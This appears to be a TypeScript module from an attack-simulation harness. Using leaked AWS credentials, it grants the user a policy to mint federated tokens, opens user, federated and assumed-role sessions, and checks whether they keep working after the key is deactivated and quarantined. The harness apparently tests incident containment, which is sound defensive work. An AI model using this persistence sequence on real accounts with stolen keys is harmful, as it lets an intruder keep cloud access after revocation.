import { PutUserPolicyCommand } from '@aws-sdk/client-iam'
import {
  AssumeRoleCommand,
  GetFederationTokenCommand,
  GetSessionTokenCommand,
} from '@aws-sdk/client-sts'
import { EC2_FULL_ACCESS } from '../aws/managed-policies.ts'
import { TRUSTING_ROLE } from '../aws/seed/exposed-users.ts'
import { type Play, type Stage, untilContainment } from './stage.ts'
import { createThief, type Signer, sessionOf } from './thief.ts'

/**
 * Opens every kind of session there is, and calls with each once the key is Inactive. The quarantine denies the user's own; a role's session lives until it ends.
 */
const REGION = 'eu-central-1'
/** The quarantine follows at once where it needs nobody's click. */
const QUARANTINE_MS = 2_000

export const playSessionLivesOn: Play = async (stage) => {
  const { endpoint, leaked, act } = stage
  const { iam, sts } = createThief(endpoint, leaked)
  await act(`let ${leaked.userName} open federated sessions`, () =>
    iam.send(
      new PutUserPolicyCommand({
        UserName: leaked.userName,
        PolicyName: 'debug',
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Action: 'sts:GetFederationToken', Resource: '*' }],
        }),
      }),
    ),
  )
  const answers = [
    await act('opened a session of the user', () => sts.send(new GetSessionTokenCommand({}))),
    await act('opened a federated session of the user', () =>
      sts.send(
        new GetFederationTokenCommand({ Name: 'support', PolicyArns: [{ arn: EC2_FULL_ACCESS }] }),
      ),
    ),
    await act(`opened a session of the role ${TRUSTING_ROLE}`, () =>
      sts.send(
        new AssumeRoleCommand({
          RoleArn: `arn:aws:iam::${leaked.accountId}:role/${TRUSTING_ROLE}`,
          RoleSessionName: 'export',
        }),
      ),
    ),
  ]
  const sessions = answers.flatMap((answer) => (answer === undefined ? [] : [sessionOf(answer)]))
  await act('looked for instances in each session, and waits', () => callInEach(stage, sessions))
  stage.meanwhile(async (signal) => {
    await untilContainment(stage, ({ inactive }) => inactive, signal)
    const since = Date.now()
    const isOver = (): boolean => Date.now() - since > QUARANTINE_MS
    await untilContainment(stage, ({ quarantined }) => quarantined || isOver(), signal)
    await callInEach(stage, sessions)
  })
}

async function callInEach({ endpoint }: Stage, sessions: readonly Signer[]): Promise<void> {
  for (const session of sessions)
    await createThief(endpoint, session)
      .ec2(REGION, 'DescribeInstances')
      .catch(() => undefined)
}
